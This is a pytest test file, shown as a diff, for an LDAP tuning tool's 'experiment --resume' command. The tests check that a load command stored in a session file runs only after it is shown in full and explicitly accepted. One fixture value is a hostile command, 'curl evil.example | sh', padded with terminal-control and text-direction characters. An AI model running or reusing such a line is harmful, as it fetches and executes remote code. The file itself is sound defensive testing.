@@ -1,0 +1,158 @@
+"""`experiment --resume` takes nothing over from a file that nobody has read and agreed to."""
+
+import sys
+from contextlib import contextmanager
+from dataclasses import replace
+
+import pytest
+
+from ldap_workbench.cli import experiment, main, resuming
+from ldap_workbench.experiment.origin import Origin
+from ldap_workbench.model.experiment import State, Then
+from ldap_workbench.model.knob import Setting, Treatment
+from ldap_workbench.session import Session, SessionWriter
+from tests import sessions
+from tests.unit.tuning.fakes import FACTS, FakeTarget
+
+LOAD = "sh -c 'curl evil.example | sh' \x1b[2J\u202e --user x" + " a" * 400
+SET = "nsslapd-idlistscanlimit=8000"
+HERE = replace(FACTS, identity="389ds:here")
+
+
+@pytest.fixture
+def begun(monkeypatch, tmp_path):
+    """Runs that were begun: (plan, whether from a file); the server is a fake."""
+    runs = []
+
+    @contextmanager
+    def connected(name):
+        target = FakeTarget(facts=HERE)
+        yield target
+
+    def run(target, tuner, plan, output, stored):
+        runs.append(plan)
+        return replace(stored, state=State.REVERTED), None
+
+    monkeypatch.setenv("LDAP_WORKBENCH_HOME", str(tmp_path / "home"))
+    monkeypatch.setattr(experiment, "connected", connected)
+    monkeypatch.setattr(experiment, "_run", run)
+    return runs
+
+
+@pytest.fixture
+def stored(tmp_path):
+    """A session of an experiment that was interrupted, with a plan that somebody has changed."""
+
+    def make(facts=HERE, **changes):
+        path = sessions.build_experiment_session(
+            tmp_path / "s.ldapwb", seconds=2, per_second=10, judged=False
+        )
+        with Session.open(path) as session:
+            [found] = session.experiments()
+        treatment = Treatment((Setting("nsslapd-idlistscanlimit", "8000"),))
+        plan = replace(found.plan, **{"treatment": treatment, "load": LOAD, **changes})
+        with SessionWriter.append(path) as writer:
+            writer.set_facts(facts)
+            writer.put_experiment(replace(found, plan=plan))
+        return path
+
+    return make
+
+
+@pytest.fixture
+def resume(begun, monkeypatch, capsys):
+    def run(path, *words):
+        argv = ["ldap-workbench", "experiment", "fake", "-o", str(path), "--resume", *words]
+        monkeypatch.setattr(sys, "argv", argv)
+        with pytest.raises(SystemExit) as ended:
+            main()
+        return ended.value.code or 0, capsys.readouterr().err
+
+    return run
+
+
+@pytest.mark.parametrize("words", [(), ("--yes",), ("--yes", "--set", SET)])
+def test_without_a_terminal_nothing_from_the_file_runs(resume, begun, stored, words):
+    status, err = resume(stored(then=Then.KEEP), *words)
+    assert status == 2
+    assert begun == []
+    assert "comes from the file" in err
+    told = next(line for line in err.splitlines() if "It runs on this machine" in line)
+    assert told.endswith(LOAD.replace("\x1b", "\\x1b").replace("\u202e", "\\u202e")), "in full"
+    assert "It sets: nsslapd-idlistscanlimit=8000" in err
+    assert "Afterwards: keep." in err
+    assert "windows of 2 s" in err
+    assert "rests on: p50" in err
+
+
+def test_what_is_quoted_is_accepted(resume, begun, stored):
+    words = ("--accept-load", LOAD, "--set", SET, "--then", "keep")
+    status, err = resume(stored(then=Then.KEEP), *words)
+    assert status == 0, err
+    assert [plan.load for plan in begun] == [LOAD]
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        ("--accept-load", "true", "--set", SET, "--then", "keep"),
+        ("--accept-load", LOAD, "--set", "nsslapd-idlistscanlimit=9000", "--then", "keep"),
+        ("--accept-load", LOAD, "--set", SET, "--then", "revert"),
+        ("--accept-load", LOAD, "--set", SET),
+        ("--set", SET, "--then", "keep"),
+    ],
+)
+def test_what_is_quoted_wrongly_is_not(resume, begun, stored, words):
+    status, err = resume(stored(then=Then.KEEP), *words)
+    assert status == 2
+    assert begun == []
+    assert "--accept-load" in err
+
+
+@pytest.mark.parametrize("answers", [(True, True), (True, False), (False, True)])
+def test_at_a_terminal_command_and_plan_are_asked_for_apart(
+    resume, begun, stored, monkeypatch, answers
+):
+    asked = []
+
+    def confirm(question):
+        asked.append(question)
+        return answers[len(asked) - 1]
+
+    monkeypatch.setattr(resuming, "confirm", confirm)
+    status, _ = resume(stored(), "--yes")
+    assert asked[0] == "Run this command from the file?"
+    assert bool(begun) == all(answers)
+    assert status == (0 if all(answers) else 2)
+
+
+def test_a_file_of_another_server_is_refused(resume, begun, stored):
+    path = stored(replace(HERE, identity="389ds:there", host="there.example"))
+    status, err = resume(path, "--accept-load", LOAD, "--set", SET)
+    assert (status, begun) == (1, [])
+    assert "another server: there.example" in err
+
+
+def test_a_file_that_names_no_server_is_a_strangers(resume, begun, stored):
+    path = stored(replace(HERE, identity=""))
+    assert "stranger" in resume(path)[1]
+    assert resume(path, "--accept-load", LOAD, "--set", SET)[0] == 0
+
+
+def test_a_file_restarts_no_server_that_needs_no_restart(resume, begun, stored):
+    status, err = resume(stored(restart=True), "--accept-load", LOAD, "--set", SET)
+    assert (status, begun) == (1, [])
+    assert "does not need that" in err
+
+
+def test_a_plan_is_told_whole_with_where_it_runs_and_what_restarts(tmp_path):
+    plan = sessions._plan(sessions.np.random.default_rng(1), 6, 20, 1)
+    plan = replace(plan, load=LOAD, load_on_host=True, restart=True, looks=(6,))
+    origin = Origin(tmp_path / "a\nb", HERE, plan)
+    lines = origin.describe(plan, HERE, "systemctl restart \x07dirsrv")
+    told = "\n".join(f"{words} {named}" for words, named in lines)
+    assert "a\\x0ab" in told
+    assert "on the server's host, in every window: sh -c" in told
+    assert "systemctl restart \\x07dirsrv" in told
+    assert "exceeds 0.01: error_share" in told
+    assert "after 6 pairs" in told
